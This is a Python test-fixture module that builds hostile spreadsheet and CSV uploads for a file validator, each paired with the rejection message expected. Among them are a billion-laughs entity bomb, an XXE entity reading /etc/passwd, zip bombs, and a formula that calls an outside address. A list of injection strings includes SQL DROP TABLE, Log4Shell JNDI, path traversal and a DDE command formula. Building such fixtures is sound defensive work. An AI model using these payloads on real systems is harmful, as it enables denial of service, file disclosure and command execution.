"""Which files would a careless or a hostile hand bring? Each made here, small, by name, with what is said of it."""

import io
import random
import zipfile
from datetime import date, datetime

from openpyxl import Workbook
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from .files import HEAD, MET, as_csv, as_xlsx

ROW = [MET.get(name, "") for name in HEAD]
LIST = as_xlsx([HEAD, ROW])
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def rebuilt(raw: bytes = LIST, **parts: bytes) -> bytes:
    """The workbook with these parts in place of its own, or beside them."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return made.getvalue()


def part(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(LIST)) as archive:
        return archive.read(name)


SHEET = "xl/worksheets/sheet1.xml"
BEGINS = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
ENDS = b"</sheetData></worksheet>"
LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (97 + n, b"&%c;" % (96 + n) * 10) for n in range(1, 12))
    + b"]>"
)


def declared(before: bytes = b"", prolog: bytes = b'<?xml version="1.0"?>') -> bytes:
    """A sheet that declares entities inside entities; something may stand before the declaration."""
    return rebuilt(**{SHEET: prolog + before + LAUGHS + BEGINS + b'<row r="1"><c t="str"><v>&l;</v></c></row>' + ENDS})


def noise(length: int) -> bytes:
    return random.Random(5).randbytes(length // 2).hex().encode()


def empty_rows(count: int) -> bytes:
    """The list, and under it rows that hold a style and nothing else."""
    own = part(SHEET)
    rows = b"".join(b'<row r="%d"><c r="A%d" s="0"/></row>' % (n, n) for n in range(3, count + 3))
    return rebuilt(**{SHEET: own.replace(b"</sheetData>", rows + b"</sheetData>")})


def one_row_at(place: int) -> bytes:
    own = part(SHEET)
    row = b'<row r="%d"><c r="A%d" t="str"><v>x</v></c></row>' % (place, place)
    return rebuilt(**{SHEET: own.replace(b"</sheetData>", row + b"</sheetData>")})


def endless_row() -> bytes:
    words = noise(4_400_000)
    cells = b"".join(b"<c><v>%s</v></c>" % words[at : at + 40] for at in range(0, len(words), 40))
    return rebuilt(**{SHEET: BEGINS + b'<row r="1">' + cells + b"</row>" + ENDS})


def longer_than_it_says() -> bytes:
    """The archive says 10 bytes where far more stand packed."""
    raw = bytearray(rebuilt(**{SHEET: BEGINS + noise(400_000) + ENDS}))
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as archive:
        there = archive.infolist()[-1]
    for sign in (b"PK\x03\x04", b"PK\x01\x02"):
        at = raw.rfind(there.file_size.to_bytes(4, "little"), 0, raw.rfind(sign) + 60)
        raw[at : at + 4] = (10).to_bytes(4, "little")
    return bytes(raw)


def counted_from_1904(*cells) -> bytes:
    book, made = Workbook(), io.BytesIO()
    book.epoch = CALENDAR_MAC_1904
    book.active.append(cells)
    book.save(made)
    return made.getvalue()


def archive_of(packing: int = zipfile.ZIP_DEFLATED, **inside: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", packing) as archive:
        for name, content in inside.items():
            archive.writestr(name, content)
    return made.getvalue()


def formula(text: str) -> bytes:
    book, made = Workbook(), io.BytesIO()
    book.active.append(list(HEAD))
    book.active.append([*ROW[:-1], text])
    book.save(made)
    return made.getvalue()


REFUSED = {
    "a formula": (lambda: formula("=1+1"), "O2 holds a formula"),
    "a formula that calls out": (lambda: formula('=WEBSERVICE("http://198.51.100.1/")'), "O2 holds a formula"),
    "a bomb": (lambda: rebuilt(**{SHEET: BEGINS + b" " * 30_000_000 + ENDS}), "unpacks to far more"),
    "a bomb beside it": (lambda: rebuilt(**{"xl/media/x.png": b"\0" * 30_000_000}), "unpacks to far more"),
    "many small parts": (lambda: rebuilt(**{f"xl/{n}.bin": b"" for n in range(600)}), "unpacks to far more"),
    "long styles": (lambda: rebuilt(**{"xl/styles.xml": b"<s>" + noise(6_000_000) + b"</s>"}), "unpacks to far more"),
    "an archive that says too little": (longer_than_it_says, "cannot be read"),
    "entities": (declared, "no spreadsheet program writes"),
    "entities after spaces": (lambda: declared(b" " * 5000), "no spreadsheet program writes"),
    "entities after a remark": (lambda: declared(b"<!-- x -->"), "no spreadsheet program writes"),
    "entities in two bytes a letter": (
        lambda: rebuilt(**{SHEET: (LAUGHS + BEGINS + ENDS).decode().encode("utf-16")}),
        "no spreadsheet program writes",
    ),
    "an entity of another file": (
        lambda: rebuilt(**{SHEET: b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + BEGINS + ENDS}),
        "no spreadsheet program writes",
    ),
    "300 columns": (lambda: as_xlsx([list(map(str, range(300)))]), "more than 60 columns"),
    "300 columns of a list": (lambda: ",".join(map(str, range(300))).encode(), "more than 60 columns"),
    "a cell in the last row": (lambda: one_row_at(1_048_576), "more than 60000 rows, most of them empty"),
    "too many rows": (lambda: as_csv(*[MET] * 50_001), "more than 50000 rows"),
    "a row without end": (endless_row, "longer than any list"),
    "half a file": (lambda: LIST[: len(LIST) // 2], "cannot be read"),
    "a sheet that is no XML": (lambda: rebuilt(**{SHEET: b"<worksheet"}), "cannot be read"),
    "a sheet that is lacking": (lambda: archive_of(**{"xl/workbook.xml": part("xl/workbook.xml")}), "cannot be read"),
    "a number that is none": (
        lambda: rebuilt(**{SHEET: BEGINS + b'<row r="1"><c t="s"><v>999999</v></c></row>' + ENDS}),
        "cannot be read",
    ),
    "a password": (lambda: OLE + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le"), "has a password"),
    "an .xls": (lambda: OLE + b"\0" * 500 + "Workbook".encode("utf-16-le"), "old Excel"),
    "an .xlsb": (lambda: archive_of(**{"xl/workbook.bin": b"x"}), "of another kind"),
    "an .ods": (
        lambda: archive_of(zipfile.ZIP_STORED, mimetype=b"application/vnd.oasis.opendocument.spreadsheet"),
        "of another kind",
    ),
    "a .docx": (lambda: archive_of(**{"word/document.xml": b"<x/>"}), "no spreadsheet, whatever its ending"),
    "a PDF": (lambda: b"%PDF-1.7\n", "PDF"),
    "a page of the web": (lambda: b"\xef\xbb\xbf <html><table><tr><td>x</td></tr></table></html>", "page of the web"),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n\x00\x00", "no text"),
    "NUL bytes": (lambda: as_csv({**MET, "Gender": "F\x00"}), "no text"),
    "two bytes a letter, unmarked": (lambda: as_csv(MET, encoding="utf-16-le"), "no text"),
    "two bytes a letter, cut": (lambda: as_csv(MET, encoding="utf-16")[:-1], "no text"),
    "no encoding at all": (lambda: b"\x81\x8d", "no text"),
    "a number that may be a day from 1904": (lambda: counted_from_1904(42075), "counts days from 1904"),
    "an empty file": (lambda: b"", "No row of headings"),
    "an empty workbook": (lambda: as_xlsx([]), "No row of headings"),
}
NAUGHTY = [
    "<script>alert(1)</script>",
    "'; drop table situations_situation; --",
    "{{ 7*7 }}{% debug %}",
    "../../etc/passwd",
    "%s%n%x",
    "${jndi:ldap://198.51.100.1/a}",
    "\u202eevil\u202c",
    "\ufeff",
    "\u200b",
    "𝕬𝖗𝖙",
    "ﷺ",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "👩‍👩‍👧‍👦",
    "null",
    "NaN",
    "1e309",
    "9" * 1999,
    "٣",
    "½",
    "\ud7ff\U0010ffff",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    ";" * 500,
    ":" * 500,
    "a:b:c:d",
]
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "cp1252", "mac_roman")
DAYS = (datetime(2019, 3, 4, 9, 30), date(2019, 3, 4))  # noqa: DTZ001  a sheet knows no zone
